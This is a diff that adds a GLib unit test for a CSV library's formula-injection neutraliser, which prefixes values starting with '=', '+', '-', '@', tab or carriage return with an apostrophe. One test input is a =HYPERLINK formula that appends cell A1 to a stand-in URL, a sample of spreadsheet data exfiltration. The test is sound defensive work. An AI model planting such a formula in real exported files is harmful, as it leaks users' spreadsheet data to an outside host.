@@ -128,6 +128,29 @@ test_quote_round_trip (void)
     g_assert_cmpstr (r->fields[i], ==, values[i]);
 }
 
+/* Formula injection (issue 13): text that a spreadsheet would run. */
+static void
+test_neutralise (void)
+{
+  static const char *const cases[][2] = {
+    { "=HYPERLINK(\"http://x\"&A1,\"Chi tiết\")", "'=HYPERLINK(\"http://x\"&A1,\"Chi tiết\")" },
+    { "+1+1", "'+1+1" },
+    { "-2+3", "'-2+3" },
+    { "@SUM(A1)", "'@SUM(A1)" },
+    { "\t=1", "'\t=1" },
+    { "\r=1", "'\r=1" },
+    { "Tên đề án", "Tên đề án" },
+    { "", "" },
+    { "a=b", "a=b" },
+  };
+
+  for (gsize i = 0; i < G_N_ELEMENTS (cases); i++)
+    {
+      g_autofree char *out = kc_csv_neutralise (cases[i][0]);
+      g_assert_cmpstr (out, ==, cases[i][1]);
+    }
+}
+
 int
 main (int argc, char **argv)
 {
@@ -138,5 +161,6 @@ main (int argc, char **argv)
   g_test_add_func ("/csv/errors", test_errors);
   g_test_add_func ("/csv/guess-delimiter", test_guess);
   g_test_add_func ("/csv/quote-round-trip", test_quote_round_trip);
+  g_test_add_func ("/csv/neutralise", test_neutralise);
   return g_test_run ();
 }
